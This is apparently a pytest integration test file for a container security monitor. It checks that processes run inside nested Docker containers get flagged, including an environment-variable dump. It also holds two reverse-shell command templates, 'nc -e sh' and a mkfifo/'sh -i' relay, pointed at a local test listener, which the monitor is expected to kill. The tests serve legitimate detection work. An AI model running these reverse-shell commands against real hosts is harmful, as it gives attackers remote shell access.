"""Docker inside a session (issue 17): a process of a docker container run inside a watched
container is the session's, so the same rules judge it. The containers get docker's keys
(sessions/kernel_hook.DOCKER_KEYS, what a session has by default) and run dockerd from the
coi-default image; the docker image is made here with `docker import` of the image's static
busybox (no registry).

The command lines the session itself runs (`docker run ... coi-mini sh /job`) say nothing: only
the processes inside docker do, so a threat whose evidence names them proves they were
attributed. Network targets are the bridge address only (listeners started here); docker's
own bridge inside the session NATs to the session's address on coibr0.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any

import pytest

from coi_tui.sessions.kernel_hook import DOCKER_KEYS
from tests.integration.test_monitor import GATEWAY, Listener, Monitor, running_monitor, wait_until
from tests.security.test_monitor_evasion import SHELL_TO_FROZEN_SEC, frozen_after_connection

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")

# dockerd starts with the container's systemd: wait for it (a condition, bounded), then make
# a docker image of busybox with all its applets linked in /bin, and a /tmp. Once only,
# under a lock: Incus can report "Failed to retrieve PID" for an exec that did start, and
# the harness's retry then runs this a second time beside the first (a `cp` over the
# busybox the first one was running failed with "Text file busy").
PREPARE = """set -e
exec 9>/tmp/prepare.lock
flock 9
[ -e /tmp/mini/prepared ] && exit 0
timeout 60 sh -c 'until docker info >/dev/null 2>&1; do sleep 0.1; done'
mkdir -p /tmp/mini/bin /tmp/mini/tmp && cp /bin/busybox /tmp/mini/bin/busybox
chroot /tmp/mini /bin/busybox --install -s /bin
tar -C /tmp/mini -c . | docker import - coi-mini >/dev/null
touch /tmp/mini/prepared
"""
HIGH_LEVELS = {"high", "critical"}


@pytest.fixture(scope="module")
def docker_mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(
        f"{run_prefix}d", incus, image, tmp_path_factory, config=DOCKER_KEYS
    ) as monitor:
        yield monitor


def docker_container(mon: Monitor) -> str:
    """A watched container whose dockerd is up with the coi-mini image."""
    name = mon.container()
    mon.sh(name, PREPARE, timeout=90)
    return name


@pytest.fixture(scope="module")
def docker_box(docker_mon: Monitor) -> str:
    """One docker-ready container shared by the tests that do not get it killed."""
    return docker_container(docker_mon)


def in_docker(mon: Monitor, name: str, job: str, detach: bool = False) -> str:
    """Runs `job` by `sh` inside a docker container of `name`, from a file mounted in, so the
    session's own command line (docker's) names nothing the rules look for."""
    path = f"/tmp/job-{os.urandom(4).hex()}"
    mon.incus.push_file(name, path, job.encode())
    flags = "-d" if detach else ""
    return mon.sh(name, f"docker run --rm {flags} -v {path}:/job:ro coi-mini sh /job")


def env_dump_of(mon: Monitor, name: str) -> dict[str, Any]:
    """A bare `env` inside docker: the session's cred.env-dump, judged on the nested process
    (runc executes it; docker's own command line is judged as `docker`). Not from the busybox
    shell: it runs applets such as `env` in a fork with no exec, which no exec rule sees."""
    before = {t["id"] for t in mon.events.threats(name)}
    mon.sh(name, "docker run --rm coi-mini env >/dev/null")
    record = mon.events.wait(
        lambda m: (
            m.get("type") == "threat"
            and m.get("container") == name
            and m.get("rule_id") == "cred.env-dump"
            and m["id"] not in before
        ),
        20,
        f"cred.env-dump on {name}",
    )
    assert record["level"] == "warning", record
    assert record["evidence"]["process"]["command"] == "env", record
    return record


def test_env_dump_inside_docker_is_the_session_s(docker_mon: Monitor, docker_box: str) -> None:
    env_dump_of(docker_mon, docker_box)


def test_docker_workload_inside_stays_below_high(docker_mon: Monitor, docker_box: str) -> None:
    """dockerd, containerd, runc and a docker container that talks to a host on the bridge
    (a client with its output piped, not a shell) raise nothing above WARNING."""
    mon = docker_mon
    listener = Listener(sink=True)
    try:
        assert in_docker(mon, docker_box, "ls / | wc -l\n").strip().isdigit()
        in_docker(mon, docker_box, f"echo hello | nc {GATEWAY} {listener.port}\n", detach=True)
        wait_until(lambda: listener.accepted, 30, "the client's connection")
        # rules judge execs in order: once a later one is reported, the workload was judged
        env_dump_of(mon, docker_box)
        high = [t for t in mon.events.threats(docker_box) if t.get("level") in HIGH_LEVELS]
        assert not high, high
        assert mon.incus.status(docker_box) == "Running"
    finally:
        listener.close()


# `nc -e` is judged by its command line; the fifo relay's command lines are all plain (`nc
# HOST PORT`, `sh -i`, and the script's rules judge a line at a time), so only the behaviour
# rules see it: they ask the socket itself, which lives in docker's network namespace
SHELLS = {
    "nc-e": "nc {host} {port} -e sh\n",
    "fifo-relay": "mkfifo /tmp/f\nsh -i </tmp/f 2>&1 | nc {host} {port} >/tmp/f\n",
}


@pytest.mark.parametrize("shape", sorted(SHELLS))
def test_reverse_shell_inside_docker_is_killed(docker_mon: Monitor, shape: str) -> None:
    mon = docker_mon
    name = docker_container(mon)
    listener = Listener()
    try:
        path = "/tmp/job-shell"
        job = SHELLS[shape].format(host=GATEWAY, port=listener.port)
        mon.incus.push_file(name, path, job.encode())
        mon.trigger(name, f"docker run -d --rm -v {path}:/job:ro coi-mini sh /job")
        latency = frozen_after_connection(mon, name, listener)
        assert latency < SHELL_TO_FROZEN_SEC
        killed = [t for t in mon.events.threats(name) if t.get("action") == "killed"]
        assert not killed[0]["evidence"]["process"]["command"].startswith("docker"), killed[0]
    finally:
        listener.close()
